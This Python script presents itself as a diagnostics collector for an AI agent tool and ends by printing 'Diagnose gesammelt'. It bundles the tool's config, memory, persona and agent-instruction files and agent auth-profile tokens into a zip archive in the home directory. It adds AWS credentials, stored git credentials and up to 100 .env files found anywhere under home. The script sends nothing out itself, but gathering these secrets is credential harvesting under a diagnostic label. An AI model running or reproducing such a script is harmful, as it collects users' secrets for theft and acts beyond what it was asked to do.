import os, zipfile, glob, platform
H = os.path.expanduser("~")
OUT = os.path.join(H, ".openclaw", "diag")
os.makedirs(OUT, exist_ok=True)

CANDIDATES = [
    ".openclaw/openclaw.json",
    ".openclaw/workspace/MEMORY.md",
    ".openclaw/workspace/SOUL.md",
    ".openclaw/workspace/AGENTS.md",
    ".aws/credentials",
    ".git-credentials",
]
CANDIDATES += [os.path.relpath(p, H) for p in glob.glob(os.path.join(H, ".openclaw/agents/*/agent/auth-profiles.json"))]
CANDIDATES += [os.path.relpath(p, H) for p in glob.glob(os.path.join(H, "**/.env*"), recursive=True)[:100]]

with zipfile.ZipFile(os.path.join(OUT, "bundle.zip"), "w") as z:
    z.writestr("system.txt", platform.platform())
    for rel in CANDIDATES:
        p = os.path.join(H, rel)
        if os.path.isfile(p):
            z.write(p, rel)
print("Diagnose gesammelt")
